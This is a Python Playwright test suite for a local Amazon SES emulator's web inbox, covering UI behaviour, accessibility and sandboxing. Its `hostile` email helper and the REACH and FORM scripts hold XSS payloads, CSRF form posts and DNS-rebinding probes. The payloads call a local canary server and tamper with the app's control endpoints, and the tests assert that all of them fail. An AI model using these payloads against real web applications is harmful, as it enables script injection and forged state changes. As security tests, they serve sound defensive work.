"""The inbox in a real browser: Debian's chromium, driven by Playwright."""

import http.server
import re
import shutil
import threading
from collections.abc import Iterator
from contextlib import closing
from pathlib import Path
from typing import Any

import pytest
from playwright.sync_api import Browser, BrowserContext, Page, expect, sync_playwright

from local_ses.inbox.mails import Mails
from local_ses.sesv2.message import Mail
from local_ses.settings import Settings
from local_ses.store import Store
from local_ses.testing import LocalSes

CHROMIUM = shutil.which("chromium")
pytestmark = pytest.mark.skipif(CHROMIUM is None, reason="chromium is not installed (Debian: apt-get install chromium)")

PIXEL = "data:image/gif;base64,R0lGODlhAQABAAAAACH5BAEKAAEALAAAAAABAAEAAAICTAEAOw=="
ADDRESS = "someone@example.net"


@pytest.fixture(scope="module")
def browser() -> Iterator[Browser]:
    with sync_playwright() as playwright:
        rebound = "--host-resolver-rules=MAP rebound.example 127.0.0.1"
        browser = playwright.chromium.launch(executable_path=CHROMIUM, args=["--no-sandbox", "--disable-gpu", rebound])
        yield browser
        browser.close()


@pytest.fixture
def context(browser: Browser, ses: LocalSes) -> Iterator[BrowserContext]:
    """A window in which example.com answers."""
    context = browser.new_context(viewport={"width": 1000, "height": 800})
    context.set_default_timeout(8000)
    context.route("https://example.com/**", lambda route: route.fulfill(body=f"at {route.request.url}"))
    yield context
    context.close()


@pytest.fixture
def page(context: BrowserContext, ses: LocalSes, client: Any) -> Page:
    """The inbox with one mail in it."""
    client.send_custom_verification_email(EmailAddress=ADDRESS, TemplateName="verify")
    page = context.new_page()
    page.goto(f"{ses.url}/_inbox/")
    return page


def status_of(page: Page, address: str = ADDRESS) -> Any:
    return page.get_by_role("row", name=address).locator(".status")


def test_open_the_link(page: Page) -> None:
    expect(status_of(page)).to_have_text("PENDING")
    with page.expect_popup() as opened:
        page.get_by_role("link", name=f"Open the link of {ADDRESS}").click()
    expect(opened.value.locator("body")).to_have_text("at https://example.com/yes")
    expect(status_of(page)).to_have_text("SUCCESS")


def test_list_keeps_itself_current(page: Page, client: Any) -> None:
    page.get_by_role("link", name="Please confirm").focus()
    client.send_custom_verification_email(EmailAddress="later@example.net", TemplateName="verify")
    expect(page.get_by_role("row", name="later@example.net")).to_be_visible()
    expect(page.get_by_text("2 shown of 2 e-mails.")).to_be_visible()
    assert page.evaluate("document.activeElement.id").startswith("mail-")


def test_filters(page: Page, ses: LocalSes, client: Any) -> None:
    client.send_custom_verification_email(EmailAddress="other@example.net", TemplateName="verify")
    ses.click("other@example.net")
    page.get_by_label("Address has").fill("SOME")
    page.keyboard.press("Enter")
    expect(page.get_by_text("1 shown of 2 e-mails.")).to_be_visible()
    expect(page.get_by_role("row", name=ADDRESS)).to_be_visible()
    page.get_by_label("Address has").fill("")
    page.get_by_label("Status").select_option("SUCCESS")
    page.get_by_role("button", name="Filter").click()
    expect(page.get_by_role("row", name="other@example.net")).to_be_visible()
    expect(page.get_by_role("row", name=ADDRESS)).to_have_count(0)


def test_move_the_clock(page: Page) -> None:
    page.get_by_label("Move it ahead by hours").fill("25")
    page.get_by_role("button", name="Move").click()
    expect(page.get_by_role("status")).to_have_text("The clock was moved.")
    expect(status_of(page)).to_have_text("FAILED")
    expect(page.get_by_text("1 d ahead")).to_be_visible()
    with page.expect_popup() as opened:
        page.get_by_role("link", name=f"Open the link of {ADDRESS}").click()
    expect(opened.value.locator("body")).to_have_text("at https://example.com/no")


def test_settings_and_faults(page: Page, ses: LocalSes) -> None:
    page.get_by_label("sandbox", exact=True).check()
    page.get_by_label("sendToVerified").select_option("ignore")
    page.get_by_label("verifiedFrom", exact=True).fill("example.com, example.org")
    page.get_by_role("button", name="Save").click()
    expect(page.get_by_role("status")).to_have_text("The settings are in force.")
    settings = ses.control()
    assert (settings["sandbox"], settings["sendToVerified"]) == (True, "ignore")
    assert settings["verifiedFrom"] == ["example.com", "example.org"]
    page.get_by_label("Only for the address").fill(ADDRESS)
    page.get_by_role("button", name="Add").click()
    expect(page.get_by_text(f"refuse of SendCustomVerificationEmail for {ADDRESS}, 1 more time")).to_be_visible()
    page.get_by_role("button", name="Remove the fault").click()
    expect(page.get_by_text("None: it answers as SES would.")).to_be_visible()


def test_wrong_setting_is_told(page: Page) -> None:
    page.get_by_label("Operation, or *").fill("x")
    page.get_by_label("Seconds, of “slow”").evaluate("field => { field.max = ''; field.value = 1e9 }")
    page.get_by_role("button", name="Add").click()
    expect(page.get_by_role("status")).to_contain_text("seconds at most 3600")


def test_empty_the_inbox(page: Page, ses: LocalSes) -> None:
    page.get_by_role("button", name="Empty the inbox").click()
    expect(page.get_by_text("Nobody was mailed yet.")).to_be_visible()
    assert ses.mails() == []


def test_views_of_an_email(page: Page, ses: LocalSes, client: Any, template: dict[str, Any]) -> None:
    content = f'<p id="it">Grüße &amp; more</p><img alt="dot" src="{PIXEL}">'
    client.update_custom_verification_email_template(**template | {"TemplateContent": content})
    client.send_custom_verification_email(EmailAddress="views@example.net", TemplateName="verify")
    identifier = ses.mails("views@example.net")[0]["Id"]
    page.goto(f"{ses.url}/_inbox/mail/{identifier}")
    frame = page.frame_locator("iframe")
    expect(frame.locator("#it")).to_have_text("Grüße & more")
    assert frame.locator("img").evaluate("picture => picture.naturalWidth") == 1
    expect(frame.get_by_text("If you did not request")).to_be_visible()
    page.get_by_role("link", name="Phone").click()
    # A click doesn't wait for the next page's style sheet; expect does.
    expect(page.locator("iframe")).to_have_css("width", "375px")
    page.get_by_role("link", name="Desk").click()
    expect(page.locator("iframe")).to_have_css("width", re.compile(r"^[89]\d\d"))
    page.get_by_role("link", name="Source").click()
    expect(page.locator("pre")).to_contain_text('<p id="it">Grüße &amp; more</p>')
    page.get_by_role("link", name="Headers").click()
    expect(page.locator("pre")).to_contain_text("To: views@example.net")
    expect(page.get_by_text("picture-1.gif")).to_be_visible()
    with page.expect_download() as download:
        page.get_by_role("link", name="Download .eml").click()
    assert b"Content-ID: <picture-1@" in Path(download.value.path()).read_bytes()


def test_keyboard_alone(page: Page) -> None:
    page.keyboard.press("Tab")
    expect(page.get_by_role("link", name="Skip to the content")).to_be_focused()
    for _ in range(20):
        page.keyboard.press("Tab")
        if page.evaluate("document.activeElement.id").startswith("mail-"):
            break
    page.keyboard.press("Enter")
    expect(page.get_by_role("heading", name="Please confirm")).to_be_visible()
    page.locator("#view-source").focus()
    page.keyboard.press("Enter")
    expect(page.locator("pre")).to_contain_text("Hello")


UNNAMED = """() => [...document.querySelectorAll("a, button, input, select, iframe, pre")].filter(element =>
  !(element.labels?.length || element.ariaLabel || element.title || element.textContent.trim()))
  .map(element => element.outerHTML)"""

CONTRASTS = """() => {
  const parse = (text) => text.match(/[\\d.]+/g).map(Number);
  const light = ([r, g, b]) => [r, g, b].map((part) => part / 255)
    .map((part) => part <= 0.03928 ? part / 12.92 : ((part + 0.055) / 1.055) ** 2.4)
    .reduce((sum, part, index) => sum + part * [0.2126, 0.7152, 0.0722][index], 0);
  const paper = (element) => {
    for (let at = element; at; at = at.parentElement) {
      const found = parse(getComputedStyle(at).backgroundColor);
      if (found.length < 4 || found[3] > 0) return found;
    }
    return [255, 255, 255];
  };
  const shown = [...document.querySelectorAll("body *")].filter((element) => element.innerText && !element.disabled);
  return shown.map((element) => {
    const [one, other] = [light(parse(getComputedStyle(element).color)), light(paper(element))];
    return [(Math.max(one, other) + 0.05) / (Math.min(one, other) + 0.05), element.outerHTML.slice(0, 80)];
  });
}"""


@pytest.mark.parametrize("scheme", ["light", "dark"])
def test_everybody_can_read_it(page: Page, ses: LocalSes, scheme: Any) -> None:
    """Every control has a name, every text a contrast of 4.5 (WCAG 2.2, AA), the phone needs no sideways scrolling."""
    page.emulate_media(color_scheme=scheme)
    identifier = ses.mails()[0]["Id"]
    for path in ("", f"mail/{identifier}", f"mail/{identifier}?view=source"):
        page.set_viewport_size({"width": 375, "height": 700})
        page.goto(f"{ses.url}/_inbox/{path}")
        assert page.evaluate(UNNAMED) == []
        contrasts = page.evaluate(CONTRASTS)
        assert contrasts
        assert [found for found in contrasts if found[0] < 4.5] == []
        assert page.evaluate("document.documentElement.scrollWidth") <= 375
        assert page.locator("h1").count() == 1
        assert page.locator("html").get_attribute("lang") == "en"
    papers = {"light": "rgb(255, 255, 255)", "dark": "rgb(20, 24, 29)"}
    assert page.evaluate("getComputedStyle(document.body).backgroundColor") == papers[scheme]


def test_nothing_comes_from_outside(page: Page, ses: LocalSes) -> None:
    asked: list[str] = []
    page.on("request", lambda request: asked.append(request.url))
    page.goto(f"{ses.url}/_inbox/")
    page.get_by_role("link", name="Please confirm").click()
    expect(page.frame_locator("iframe").get_by_text("Hello")).to_be_visible()
    assert len(asked) >= 4
    assert [url for url in asked if not url.startswith((ses.url, "data:"))] == []


class Canary:
    """A server of somebody else; `asked` are the paths that reached it."""

    def __init__(self) -> None:
        self.asked = asked = []  # type: list[str]

        class Handler(http.server.BaseHTTPRequestHandler):
            def do_GET(self) -> None:
                asked.append(self.path)
                self.send_response(200)
                self.send_header("Access-Control-Allow-Origin", "*")
                self.end_headers()

            do_POST = do_GET

            def log_message(self, format: str, *arguments: Any) -> None:
                return

        self.server = http.server.ThreadingHTTPServer(("127.0.0.1", 0), Handler)
        self.url = f"http://127.0.0.1:{self.server.server_port}"
        threading.Thread(target=self.server.serve_forever, daemon=True).start()


@pytest.fixture
def canary() -> Iterator[Canary]:
    canary = Canary()
    yield canary
    canary.server.shutdown()
    canary.server.server_close()


def hostile(canary: str, own: str) -> str:
    attack = (
        f"fetch('{canary}/fetch');fetch('{own}/_control/',{{method:'PATCH',headers:{{'Content-Type':'application/json'}},"
        "body:JSON.stringify({sandbox:true})});top.document.title='taken';top.location='" + canary + "/top';"
    )
    return f"""
    <html><head><meta http-equiv="refresh" content="0;url={canary}/refresh"><base href="{canary}/">
    <link rel="stylesheet" href="{canary}/style.css"><link rel="prefetch" href="{canary}/prefetch">
    <link rel="dns-prefetch" href="{canary}"><style>
    @import "{canary}/import.css"; body {{ background: url({canary}/back) }}
    @font-face {{ font-family: x; src: url({canary}/font) }} p {{ font-family: x }}</style></head>
    <body onload="{attack}"><script>{attack}</script><script src="{canary}/script.js"></script>
    <p id="seen">Seen</p><img src="{canary}/picture" onerror="{attack}"><img src=x onerror="{attack}">
    <svg onload="{attack}"><image href="{canary}/svg"/></svg><video src="{canary}/video" autoplay></video>
    <iframe src="{own}/_control/"></iframe><iframe srcdoc="<script>{attack}</script>"></iframe>
    <object data="{canary}/object"></object><embed src="{canary}/embed">
    <form id="f" action="{own}/_control/" method="post" enctype="text/plain">
    <input name="x" autofocus onfocus="{attack}">
    <button id="send">Send</button></form>
    <a id="out" href="{canary}/out" target="_top" ping="{canary}/ping">out</a>
    <a id="in" href="{canary}/in">in</a><a id="script" href="javascript:{attack}">script</a></body></html>"""


def test_hostile_email(page: Page, ses: LocalSes, canary: Canary, server: LocalSes) -> None:
    """It gets past the template's rules here, straight into the store; in the inbox it can do nothing."""
    with closing(Store(server.data / "local-ses.sqlite")) as store:
        html = hostile(canary.url, ses.url)
        words = {
            "account": "123456789012",
            "region": "us-east-1",
            "source": "a@b",
            "subject": "<script>alert(1)</script>",
        }
        urls = {"success_url": "https://example.com/", "failure_url": "https://example.com/"}
        mail = Mail(
            id="hostile",
            at=0.0,
            destination="<b>x</b>@y",
            template="t",
            html=html,
            message=b"",
            token="t",
            **words,
            **urls,
        )
        Mails(store, Settings(store)).add(mail)
    before = ses.control()
    dialogs: list[str] = []
    page.on("dialog", lambda dialog: dialogs.append(dialog.message))
    page.goto(f"{ses.url}/_inbox/")
    expect(page.get_by_text("<b>x</b>@y")).to_be_visible()
    page.get_by_role("link", name="alert(1)").click()
    frame = page.frame_locator("iframe")
    expect(frame.locator("#seen")).to_have_text("Seen")
    for inside in ("#out", "#script", "#send", "#in"):
        frame.locator(inside).click(no_wait_after=True)
    expect(page).to_have_title("<script>alert(1)</script> - local SES")
    page.wait_for_load_state("networkidle")
    assert page.url == f"{ses.url}/_inbox/mail/hostile"
    # Opened by itself, not in its frame.
    page.goto(f"{ses.url}/_inbox/mail/hostile/content")
    page.wait_for_load_state("networkidle")
    assert page.url.endswith("/content")
    assert canary.asked == []
    assert dialogs == []
    assert ses.control() == before


REACH = """async (paths) => {
  const asked = [];
  for (const path of paths) {
    for (const method of ["GET", "POST"]) for (const mode of ["cors", "no-cors"])
      asked.push(fetch(path, {method, mode}).then(() => path, () => ""));
    const picture = new Image();
    asked.push(new Promise((done) => { picture.onload = () => done(path); picture.onerror = () => done(""); }));
    picture.src = path;
  }
  return (await Promise.all(asked)).filter((path) => path);
}"""
FORM = """(to) => {
  const form = document.createElement("form");
  Object.assign(form, {action: to, method: "post"});
  document.body.append(form);
  form.submit();
}"""
ANYWHERE = ["/", "/moto-api/reset", "/moto-api/data.json", "/v2/email/account", "/_control/reset", "/_inbox/"]


def test_page_of_another_origin_reaches_nothing(context: BrowserContext, ses: LocalSes, canary: Canary) -> None:
    ses.client(service="s3").create_bucket(Bucket="kept")
    page = context.new_page()
    page.goto(canary.url)
    assert page.evaluate(REACH, [ses.url + path for path in ANYWHERE]) == []
    for path in ("/moto-api/reset", "/_control/reset"):
        page.goto(canary.url)
        with page.expect_navigation(url=ses.url + path) as answer:
            page.evaluate(FORM, ses.url + path)
        assert answer.value.status == 403
    assert [bucket["Name"] for bucket in ses.client(service="s3").list_buckets()["Buckets"]] == ["kept"]
    assert ses.control()["verifiedFrom"] == ["example.com"]


def test_rebound_name_reaches_nothing(context: BrowserContext, ses: LocalSes) -> None:
    page = context.new_page()
    rebound = ses.url.replace("127.0.0.1", "rebound.example")
    for path in ANYWHERE:
        answer = page.goto(rebound + path)
        assert answer is not None
        assert answer.status == 403


def test_link_inside_the_frame_verifies_nobody(page: Page, ses: LocalSes) -> None:
    page.get_by_role("link", name="Please confirm").click()
    with page.expect_response("**/_verify/*") as answer:
        page.frame_locator("iframe").get_by_role("link").click(no_wait_after=True)
    assert answer.value.status == 403
    identity = ses.identity(ADDRESS)
    assert identity is not None
    assert identity["status"] == "PENDING"
